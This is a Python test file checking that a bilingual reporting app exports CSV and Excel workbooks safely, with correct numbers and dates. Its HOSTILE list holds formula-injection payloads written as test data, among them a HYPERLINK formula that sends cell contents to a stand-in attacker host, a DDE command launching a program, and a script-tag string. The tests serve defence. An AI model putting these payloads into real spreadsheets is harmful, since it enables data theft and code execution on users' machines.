"""Reports as workbooks and CSV: real numbers and days, text that stays text, and the same in LibreOffice."""

from __future__ import annotations

import csv as csv_module
import io
import os
import re
import shutil
import subprocess
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from api.sheets import LONGEST, csv, text_field, xlsx
from graph.formulas import SIGNS
from graph.iris import thing
from graph.report import Figure, Heading, Line, Link, Report, Text

SOFFICE = shutil.which("soffice")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "a;=1+1",
    'a","=1+1',
    "a\n=1+1",
    "{=1+1}",
    "=cmd|' /C calc'!A0",
    "https://evil.example/",
    "<script>alert(1)</script>",
)


def both(text: str) -> Text:
    return {"vi": text, "en": text}


def hostile_report() -> Report:
    return Report(
        key="x",
        title=both(HOSTILE[0]),
        definition=both(HOSTILE[0]),
        base=both(HOSTILE[1]),
        headings=(
            Heading("text", both(HOSTILE[1])),
            Heading("name", both("tên"), "link"),
            Heading("number", both("số"), "integer"),
        ),
        lines=tuple(
            Line((text, Link(thing("task", "1"), both(text)), -number), (text,))
            for number, text in enumerate(HOSTILE, start=1)
        ),
        figures=(Figure("f", both(HOSTILE[2]), both(HOSTILE[3]), both(HOSTILE[4])),),
        notes=(both(HOSTILE[1]),),
    )


REPORT = Report(
    key="x",
    title={"vi": "Bảng thử", "en": "A table"},
    definition={"vi": "Cách đếm", "en": "How it counts"},
    base={"vi": "2 nhiệm vụ", "en": "2 tasks"},
    headings=(
        Heading("who", {"vi": "Cơ quan", "en": "Agency"}, "link"),
        Heading("led", {"vi": "Chủ trì", "en": "Led"}, "integer"),
        Heading("weight", {"vi": "Trọng số", "en": "Weight"}, "decimal"),
        Heading("share", {"vi": "Tỷ lệ", "en": "Share"}, "percent"),
        Heading("day", {"vi": "Ngày", "en": "Day"}, "date"),
        Heading("tasks", {"vi": "Nhiệm vụ", "en": "Tasks"}, "links"),
        Heading("clear", {"vi": "Rõ", "en": "Clear"}),
    ),
    lines=(
        Line(
            (
                Link(thing("agency", "so-y-te"), {"vi": "Sở Y tế", "en": "Department of Health"}),
                1200,
                Decimal("1.41"),
                0.125,
                date(2026, 3, 5),
                (
                    Link(thing("task", "10-1"), {"vi": "một", "en": "one"}),
                    Link(thing("task", "10-2"), {"vi": "hai", "en": "two"}),
                ),
                True,
            ),
            (thing("task", "10-1"), thing("task", "10-2")),
        ),
        Line((None, None, float("nan"), None, None, (), False)),
    ),
    figures=(Figure("gini", {"vi": "Gini", "en": "Gini"}, 0.25, {"vi": "đều hay không", "en": "how even"}),),
    notes=({"vi": "ghi chú", "en": "a note"},),
)


def test_csv_is_for_spreadsheets() -> None:
    content = csv(REPORT, "vi")
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig").split("\r\n") == [
        "Cơ quan,Chủ trì,Trọng số,Tỷ lệ,Ngày,Nhiệm vụ,Rõ,Dẫn về (địa chỉ của nhiệm vụ hoặc đối tượng)",
        f'Sở Y tế,1200,1.41,0.125,2026-03-05,"một; hai",có,{thing("task", "10-1")} {thing("task", "10-2")}',
        ",,,,,,không,",
        "",
    ]
    assert csv(REPORT, "en").decode("utf-8-sig").split("\r\n")[1].startswith("Department of Health,1200,")


def test_text_that_could_start_a_formula_is_marked_in_csv_and_numbers_are_not() -> None:
    text = csv(hostile_report(), "vi").decode("utf-8-sig")
    rows = list(csv_module.reader(io.StringIO(text, newline="")))
    assert rows[0][0] == "'=1+1"
    assert [row[0].replace("'", "") for row in rows[1:]] == [text.replace("'", "") for text in HOSTILE]
    assert rows[11][0] == "a;'=1+1"
    assert [row[2] for row in rows[1:]] == [str(-number) for number in range(1, len(HOSTILE) + 1)]
    for row in rows:
        for cell in (row[0], row[1], row[3]):
            assert not cell.lstrip(" ").startswith(SIGNS)
    for separator in ",;\t":
        for row in csv_module.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                assert not cell.startswith(("=", "+", "@"))


@given(st.text())
def test_no_text_starts_a_formula_and_none_is_changed_otherwise(text: str) -> None:
    read = next(csv_module.reader(io.StringIO(text_field(text), newline="")), [""])
    assert read[0].replace("'", "") == text.replace("'", "")
    assert not re.search(r"(^|[;\t\r\n])[=+\-@＝＋－＠]", read[0])
    if not re.search(r"[=+\-@\t\r\n＝＋－＠]", text):
        assert read[0] == text


def cells(content: bytes) -> dict[str, list[list[Any]]]:
    book = load_workbook(io.BytesIO(content))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in book.worksheets}


def test_a_workbook_holds_real_numbers_and_days_with_their_formats() -> None:
    content = xlsx(REPORT, "vi", "v1")
    found = cells(content)
    table = found["Bảng"]
    sources = "Dẫn về (địa chỉ của nhiệm vụ hoặc đối tượng)"
    assert [cell.value for cell in table[0]] == [
        *(heading.label["vi"] for heading in REPORT.headings),
        sources,
    ]
    assert [cell.value for cell in table[1]] == [
        "Sở Y tế",
        1200,
        1.41,
        0.125,
        datetime(2026, 3, 5),
        "một; hai",
        "có",
        f"{thing('task', '10-1')}\n{thing('task', '10-2')}",
    ]
    assert [cell.value for cell in table[2]] == [None, None, None, None, None, None, "không", None]
    assert [cell.number_format for cell in table[1][1:5]] == ["#,##0", "#,##0.00", "0.0%", "dd/mm/yyyy"]
    assert [[cell.value for cell in row] for row in found["Định nghĩa"]] == [
        ["Tên báo cáo", "Bảng thử", None],
        ["Cách tính", "Cách đếm", None],
        ["Cơ sở tính", "2 nhiệm vụ", None],
        ["Phiên bản dữ liệu", "v1", None],
        ["Lưu ý", "ghi chú", None],
        [None, None, None],
        ["Chỉ số", "Giá trị", "Định nghĩa"],
        ["Gini", 0.25, "đều hay không"],
    ]
    assert list(cells(xlsx(REPORT, "en", "v1"))) == ["Table", "Definitions"]


def test_a_workbook_has_a_frozen_heading_filters_and_widths() -> None:
    sheet = load_workbook(io.BytesIO(xlsx(REPORT, "vi", "v1")))["Bảng"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:H3"
    assert all(8 <= sheet.column_dimensions[name].width <= 61 for name in "ABCDEFGH")


def test_no_cell_of_a_workbook_is_a_formula_or_link() -> None:
    content = xlsx(hostile_report(), "vi", "v1")
    table = cells(content)["Bảng"]
    assert [row[0].value for row in table[1:]] == [text.replace("\r", "") for text in HOSTILE]
    assert {cell.data_type for rows in cells(content).values() for row in rows for cell in row} <= {"s", "n"}
    book = load_workbook(io.BytesIO(content))
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]


def test_a_text_longer_than_a_cell_is_cut_with_a_sign() -> None:
    report = Report(
        "x", both("x"), both("x"), both("x"), (Heading("a", both("a")),), (Line(("ă" * (LONGEST + 1),)),)
    )
    value = cells(xlsx(report, "vi", "v1"))["Bảng"][1][0].value
    assert (len(value), value[-1]) == (LONGEST, "…")


@pytest.mark.skipif(SOFFICE is None, reason="needs LibreOffice (apt-get install libreoffice-calc)")
def test_libreoffice_reads_the_same_values_and_evaluates_nothing(tmp_path: Path) -> None:
    for name, report in (("plain", REPORT), ("hostile", hostile_report())):
        (tmp_path / f"{name}.xlsx").write_bytes(xlsx(report, "vi", "v1"))
    subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false",
            "--outdir",
            str(tmp_path),
            *(str(tmp_path / f"{name}.xlsx") for name in ("plain", "hostile")),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={**os.environ, "LC_ALL": "C.UTF-8"},
    )

    def rows(name: str) -> list[list[str]]:
        with (tmp_path / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
            return list(csv_module.reader(file))

    assert rows("plain")[1][:7] == ["Sở Y tế", "1200", "1.41", "12.5%", "03/05/2026", "một; hai", "có"]
    expected = [text.replace("\r", "") for text in HOSTILE]
    shown = [row[0].removeprefix("'") for row in rows("hostile")[1:]]
    assert shown == expected
    assert [row[2] for row in rows("hostile")[1:]] == [str(-number) for number in range(1, len(HOSTILE) + 1)]
